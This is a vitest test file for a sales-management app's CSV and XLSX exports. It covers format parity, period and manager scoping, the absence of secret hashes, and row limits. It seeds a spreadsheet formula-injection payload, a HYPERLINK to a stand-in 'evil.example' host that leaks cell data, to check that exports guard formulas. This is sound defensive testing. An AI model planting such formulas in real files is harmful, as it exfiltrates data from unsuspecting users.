/** Every list as a file, read back by the reader of imports. */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ExportFormat, ExportName } from '../../server/exports/exports.ts';
import type { Asked } from '../../server/exports/list.ts';
import { openTable } from '../../server/imports/table.ts';
import { unguardCell } from '../../server/spreadsheet/guard.ts';
import { exportWord } from '../../src/lib/exports.server.ts';
import { foundCompany, record, reverse, sale } from '../support/company.ts';
import { startDatabases } from '../support/databases.ts';
import type { Databases } from '../support/databases.ts';
import { startLocalApp } from '../support/local-app.ts';
import type { LocalApp } from '../support/local-app.ts';
import { MONDAY_MORNING, shiftedClock } from '../support/shifted-clock.ts';
import { unzip } from '../support/unzip.ts';

const clock = shiftedClock(MONDAY_MORNING);
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
const SECRET = 'hash-that-nobody-may-see';

let databases: Databases;
let local: LocalApp;
let folder: string;

const ask = (more: Partial<Asked> & { filters?: Record<string, string> } = {}): Asked => ({
	q: '',
	descending: false,
	filter: (name) => more.filters?.[name],
	within: undefined,
	period: { from: '2026-11-01', to: '2026-11-30' },
	...more
});

async function take(name: ExportName, format: ExportFormat, asked = ask()): Promise<string> {
	const opened = await local.app.exports.open(name, {
		format,
		asked,
		word: (key) => key,
		actor: 'test'
	});
	if (!opened.ok) throw new Error(JSON.stringify(opened.problems));
	const pieces: Buffer[] = [];
	for await (const piece of opened.file.bytes) pieces.push(piece);
	const path = join(folder, `${name}.${format}`);
	await writeFile(path, Buffer.concat(pieces));
	return path;
}

/** Rows by heading, as an import would read them. */
async function readBack(path: string): Promise<Record<string, string>[]> {
	const opened = await openTable(path, {});
	if (!opened.ok) throw new Error(JSON.stringify(opened.problems));
	const { headings, rows, close } = opened.table;
	const found: Record<string, string>[] = [];
	for await (const { cells, problem } of rows(() => {})) {
		expect(problem).toBeUndefined();
		found.push(Object.fromEntries(headings.map((heading, i) => [heading, cells[i] ?? ''])));
	}
	close();
	return found;
}

/** A day of two reps of different teams, an import, a contest, a closed month: a row for each list. */
const A_DAYS_WORK = `
	WITH two AS (SELECT id AS rep_id, code FROM reps WHERE code IN ('r1', 'r7')),
	v AS (INSERT INTO visits (id, rep_id, date, start, "end", customer_name, purpose, state, by, at)
		SELECT gen_random_uuid(), rep_id, '2026-11-23', '09:00', '10:00', '=1+1', 'new-customer', 'planned', code, $1 FROM two),
	d AS (INSERT INTO reports (rep_id, day, yesterday, changed_at) SELECT rep_id, '2026-11-23', '拜访两家', $1 FROM two),
	h AS (INSERT INTO help_requests (id, rep_id, obstacle, text, at)
		SELECT gen_random_uuid(), rep_id, 'price', '价格', $1 FROM two),
	a AS (INSERT INTO actions (id, rep_id, text, due, origin, by, at)
		SELECT gen_random_uuid(), rep_id, '回访', '2026-11-24', 'own', 'm', $1 FROM two),
	n AS (INSERT INTO floor_notes (id, rep_id, text, tags, by, at)
		SELECT gen_random_uuid(), rep_id, '很好', '{陈列,价格}', 'm', $1 FROM two),
	c AS (INSERT INTO coachings (id, rep_id, topic, shown, next_step, next_on, by, at)
		SELECT gen_random_uuid(), rep_id, '开场', '示范', '练习', '2026-11-25', 'm', $1 FROM two),
	s AS (INSERT INTO spot_checks (id, rep_id, day, kind, ref, seed, by, at)
		SELECT gen_random_uuid(), rep_id, '2026-11-23', 'report', '2026-11-23', code, 'm', $1 FROM two),
	w AS (INSERT INTO alerts (rep_id, rule, day, since, days, cause, step, urgency, raised_at)
		SELECT rep_id, 'idle', '2026-11-23', '2026-11-23', 1, '{}', '{}', 1, $1 FROM two ON CONFLICT DO NOTHING),
	l AS (INSERT INTO rep_leave (rep_id, "from", "to") SELECT rep_id, '2026-11-26', '2026-11-27' FROM two),
	o AS (INSERT INTO commitments (rep_id, receiver, period_unit, period_start, version, state, content, hash, prepared_at, prepared_by)
		SELECT rep_id, code, 'month', '2026-11-01', 1, 'draft', '{}', code, $1, 'm' FROM two),
	k AS (INSERT INTO calendar_days (date, weight, note) VALUES ('2026-11-28', 50, '半天')),
	p AS (INSERT INTO period_closings (month, closed_at, closed_by, position, entries, figures)
		VALUES ('2026-10-01', $1, 'a', 1, 1, '[]')),
	e AS (INSERT INTO contests (name, kind, level, unit_id, metric_id, handicap, "from", "to", created_by, created_at)
		SELECT '冲刺周', 'highest', 'rep', u.id, m.id, false, '2026-11-23', '2026-11-27', 'a', $1
		FROM units u, metrics m WHERE u.parent_id IS NULL AND m.code = 'sales')
	INSERT INTO import_batches (id, created_at, created_by, state) VALUES ('b1', $1, 'a', 'uploaded')`;

const taken = async (name: ExportName, asked?: Asked) => readBack(await take(name, 'csv', asked));

beforeAll(async () => {
	folder = await mkdtemp(join(tmpdir(), 'lhb-exports-'));
	databases = await startDatabases();
	local = await startLocalApp({ ...databases, clock });
	const { app, pool } = local;
	await foundCompany(app, '2026-11-01');
	await app.directory.put(
		'customers',
		'd3',
		{ name: FORMULA, kind: 'dealer', owner: 'r4' },
		'test'
	);
	await app.directory.put(
		'customers',
		'00042',
		{ name: '引号"逗号,\t换行', kind: 'retail' } as never,
		'test'
	);
	await app.accounts.create({ code: 'r1', name: '李娜', email: 'li@example.com' }, 'test');
	await app.accounts.create(
		{ code: 'm', name: '经理', leads: ['t3'], phone: '+8613800000000' },
		'test'
	);
	await app.accounts.create({ code: 'a', name: '管理员', administrator: true }, 'test');
	await pool.query('UPDATE accounts SET password_hash = $1', [SECRET]);
	await app.keys.create({ name: 'ERP', scopes: ['read', 'entries'] }, 'test');
	await pool.query('UPDATE api_keys SET secret_hash = $1', [SECRET]);
	await pool.query(
		`INSERT INTO displays (id, name, board, unit_id, secret_hash, rotated_at, paired_at, paired_by)
		SELECT 'tv-' || code, '前台 ' || name, 'sales', id, $1, now(), now(), 'test' FROM units`,
		[SECRET]
	);
	const first = await record(
		app,
		sale('r1', 1_280_050, { at: clock(), customer: 'd1', note: '-2+3' })
	);
	await record(app, {
		...sale('r1', 100_00, { at: clock() }),
		rep: undefined,
		credits: [
			{ rep: 'r1', share: 60 },
			{ rep: 'r7', share: 40 }
		],
		overlays: [{ rep: 'r4', share: 100 }]
	} as never);
	await reverse(app, first);
	await pool.query(A_DAYS_WORK, [new Date(clock())]);
	await record(app, sale('r7', 55_00, { at: clock() - 40 * 86_400_000 }));
});

afterAll(async () => {
	await local?.close();
	await databases?.stop();
	await rm(folder, { recursive: true, force: true });
});

describe('[ADMIN-6] every list', () => {
	test.each([
		'units',
		'people',
		'memberships',
		'leave',
		'customers',
		'products',
		'metrics',
		'calendar',
		'targets',
		'letters',
		'entries',
		'visits',
		'reports',
		'help',
		'actions',
		'notes',
		'coachings',
		'spot-checks',
		'alerts',
		'contests',
		'periods',
		'boards',
		'displays',
		'imports',
		'keys',
		'audit'
	] as const)('%s says the same in both formats', async (name) => {
		const csv = await take(name, 'csv');
		const rows = await readBack(csv);
		const book = await readBack(await take(name, 'xlsx'));
		expect(rows.length).toBeGreaterThan(0);
		// Taking the first was written to the audit log, which the second then holds too.
		const newer = name === 'audit' ? book.slice(1) : book;
		expect(newer).toHaveLength(rows.length);
		for (const [i, row] of rows.entries())
			for (const [heading, text] of Object.entries(row))
				expect(plain(newer[i]![heading]!), heading).toBe(plain(unguardCell(text)));
		expect((await readFile(csv, 'utf8')).startsWith('\ufeff')).toBe(true);
	});

	test('there is no other', () => {
		expect(local.app.exports.names).toHaveLength(26);
		for (const name of ['', 'sessions', 'constructor', '__proto__'])
			expect(local.app.exports.actionOf(name)).toBeUndefined();
	});

	test.each(['zh-CN', 'en'] as const)('has words for all that it shows, in %s', (locale) => {
		const { texts } = local.app.exports;
		expect(texts().filter((key) => exportWord(key, locale) === key)).toEqual([]);
	});

	test('of a period holds its days and no others, by the clock on the wall', async () => {
		const names = local.app.exports.names.filter(local.app.exports.isOfPeriod);
		expect(names).toContain('visits');
		const december = ask({ period: { from: '2026-12-01', to: '2026-12-31' } });
		for (const name of names) {
			expect((await taken(name)).length, name).toBeGreaterThan(0);
			expect(await taken(name, december), name).toEqual([]);
		}
		const allTimes = ask({ period: { from: '0001-01-01', to: '9999-12-31' } });
		for (const name of names) expect((await taken(name, allTimes)).length, name).toBeGreaterThan(0);
		const notes = await taken('notes');
		expect(notes.find(({ rep }) => rep === 'r1')).toMatchObject({
			date: '2026-11-23',
			tags: '陈列 价格'
		});
	});

	test('is taken as it is searched, and that is in the audit log', async () => {
		const found = await taken('customers', ask({ q: '无锡' }));
		expect(found.map(({ code }) => code)).toEqual(['d2']);
		expect(await taken('customers', ask({ filters: { kind: 'retail' } }))).toHaveLength(2);
		expect(await taken('people', ask({ q: 'li@example' }))).toHaveLength(1);
		expect(await taken('people', ask({ filters: { role: 'administrator' } }))).toHaveLength(1);
		const ofTeam = await taken('people', ask({ filters: { unit: 't3' } }));
		expect(ofTeam.map(({ code }) => code)).toEqual(['m', 'r7', 'r8']);
		const { rows } = await local.pool.query(
			`SELECT actor, subject, after FROM audit WHERE action = 'export.take' AND after ? 'q' ORDER BY id LIMIT 1`
		);
		expect(rows).toEqual([
			{ actor: 'test', subject: 'customers', after: { format: 'csv', q: '无锡' } }
		]);
	});

	test('[ADMIN-10] holds no secret', async () => {
		for (const name of local.app.exports.names)
			expect(await readFile(await take(name, 'csv'), 'utf8')).not.toContain(SECRET);
	});
});

/** Excel keeps numbers without trailing zeros and midnights without time. */
const plain = (text: string): string =>
	/^-?\d+\.\d+$/.test(text) ? String(Number(text)) : text.replace(/ 00:00:00$/, '');

test('[ADMIN-7] a formula is guarded in CSV, and text that stays text in a workbook', async () => {
	const csv = await readFile(await take('customers', 'csv'), 'utf8');
	expect(csv).toContain(`"'=HYPERLINK(""http`);
	const path = await take('customers', 'xlsx');
	const book = await readBack(path);
	expect(book.map(({ name }) => name)).toContain(FORMULA);
	// A code keeps its zeros.
	expect(book.map(({ code }) => code)).toContain('00042');
	const [sheet] = await unzip(await readFile(path), 'sheet1');
	expect(sheet).not.toMatch(/<f[ >]/);
	expect(sheet).toContain(`<c s="3" t="inlineStr"><is><t xml:space="preserve">=HYPERLINK`);
});

describe('[ADMIN-9] the ledger of a period', () => {
	test('has a row for each rep credited; amounts sum up to the totals', async () => {
		const rows = await taken('entries');
		const sum = (rep: string) =>
			rows.filter((row) => row.rep === rep).reduce((all, row) => all + Number(row.amount), 0);
		expect(sum('r1')).toBe(60);
		expect(sum('r7')).toBe(40);
		const assist = rows.find(({ rep }) => rep === 'r4')!;
		expect([assist.amount, assist.assist]).toEqual(['', '100.00']);
		const [first] = rows;
		expect(first).toMatchObject({
			amount: '12800.50',
			business_date: '2026-11-23',
			customer: 'd1',
			note: "'-2+3",
			occurred_at: expect.stringMatching(/^2026-11-23 10:0/)
		});
		expect(rows.filter(({ reverses }) => reverses === first!.position)).toHaveLength(1);
	});

	test('holds its days and no others', async () => {
		const october = ask({ period: { from: '2026-10-01', to: '2026-10-31' } });
		expect((await taken('entries', october)).map(({ amount }) => amount)).toEqual(['55.00']);
		expect(
			await taken('entries', ask({ period: { from: '2026-12-01', to: '2026-11-01' } }))
		).toEqual([]);
	});
});

describe('[ADMIN-3] within the units of a manager', () => {
	const mine = ask({ within: ['t3'] });
	const codes = async (name: ExportName, column = 'code') =>
		(await taken(name, mine)).map((row) => row[column]).sort();

	test('customers, people, memberships, displays', async () => {
		expect(await codes('customers')).toEqual(['d2']);
		expect(await codes('people')).toEqual(['m', 'r7', 'r8']);
		expect(await codes('memberships', 'rep')).toEqual(['r7', 'r8']);
		expect(await codes('displays', 'unit')).toEqual(['t3']);
		expect(await codes('units')).toEqual(['t3']);
	});

	test('what people did, their leave and their letters', async () => {
		const OF_REPS = [
			'leave',
			'letters',
			'visits',
			'reports',
			'help',
			'actions',
			'notes',
			'coachings',
			'spot-checks',
			'alerts'
		] as const;
		for (const name of OF_REPS) {
			const found = new Set(await codes(name, 'rep'));
			// The clock may have raised alerts of the others of the team meanwhile.
			if (name === 'alerts') found.delete('r8');
			expect([...found], name).toEqual(['r7']);
		}
	});

	test('targets and credits, also of an entry shared with others', async () => {
		expect(await codes('targets')).toEqual(['r7', 'r8', 't3']);
		expect((await taken('entries', mine)).map(({ rep, amount }) => [rep, amount])).toEqual([
			['r7', '40.00']
		]);
	});
});

test('[ADMIN-8] more rows than a sheet holds are refused for XLSX before it begins, not for CSV', async () => {
	await local.pool.query(
		`INSERT INTO audit (at, actor, action, subject)
		SELECT now(), 'test', 'bulk.insert', '' FROM generate_series(1, 1048576)`
	);
	const open = (format: ExportFormat) =>
		local.app.exports.open('audit', { format, asked: ask(), word: (key) => key, actor: 'test' });
	expect(await open('xlsx')).toMatchObject({
		ok: false,
		problems: [{ reason: 'too-many-rows', params: { limit: 1_048_575 } }]
	});
	const csv = await open('csv');
	expect(csv.ok).toBe(true);
	if (csv.ok) await csv.file.bytes.return(undefined);
	// A million rows take a busy machine a while.
}, 120_000);
